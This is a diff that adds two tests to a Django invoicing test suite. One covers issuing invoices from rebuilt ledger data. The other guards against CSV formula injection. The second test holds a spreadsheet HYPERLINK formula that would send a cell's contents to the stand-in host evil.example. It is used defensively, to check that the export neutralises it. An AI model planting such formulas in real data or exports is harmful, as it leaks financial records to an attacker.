@@ -490,6 +490,32 @@ def test_the_admin_actions_refresh_and_issue_drafts(admin_client, acme_month, mo
         "Issued 1 invoice(s): AH-2026-000001.", "Nothing issued: only drafts can be issued, and none was selected."]
 
 
+def test_issuing_from_the_admin_bills_what_the_ledger_holds_not_a_draft_built_mid_month(admin_client, acme, models, monkeypatch):
+    """A draft built on the 20th, usage on the 28th, then Issue clicked on the 1st before the refresh task ran: the
+    invoice issued is rebuilt from the ledger first. Issuing an old draft directly is refused with what to do."""
+    call(acme, models["mini"], nov(10), n=100)
+    real_now = timezone.now
+    monkeypatch.setattr(timezone, "now", lambda: datetime(2026, 11, 20, 12, tzinfo=UTC))
+    draft = invoice_generate(tenant=acme, month=NOVEMBER)
+    call(acme, models["mini"], nov(28), n=5000)
+    monkeypatch.setattr(timezone, "now", lambda: real_now())  # December again (the autouse fixture's clock)
+    with pytest.raises(InvoiceError, match="refresh it, then issue it"):
+        invoice_issue(invoice=Invoice.objects.get(pk=draft.pk))
+    admin_client.post("/admin/billing/invoice/", {"action": "issue", "_selected_action": [draft.pk]})
+    issued = Invoice.objects.get(pk=draft.pk)
+    month_cost = UsageRecord.objects.filter(tenant=acme, local_date__month=11).aggregate(cost=Sum("cost"))["cost"]
+    assert issued.status == InvoiceStatus.ISSUED and issued.provider_cost == month_cost
+
+
+def test_a_csv_cell_a_spreadsheet_would_run_as_a_formula_is_written_as_text(acme, models):
+    """Model names are set by staff who cannot see invoices; finance opens the CSV in a spreadsheet."""
+    models["mini"].display_name = '=HYPERLINK("http://evil.example/?x="&A2,"GPT-4o mini")'
+    models["mini"].save()
+    call(acme, models["mini"], nov(3))
+    rows = list(csv.DictReader(io.StringIO(invoice_csv(invoice_generate(tenant=acme, month=NOVEMBER)))))
+    assert rows[0]["model"] == "'" + models["mini"].display_name
+
+
 def test_the_admin_generates_invoices_for_a_month(admin_client, acme_month):
     response = admin_client.post("/admin/billing/invoice/generate/", {"month": "2026-11"})
 
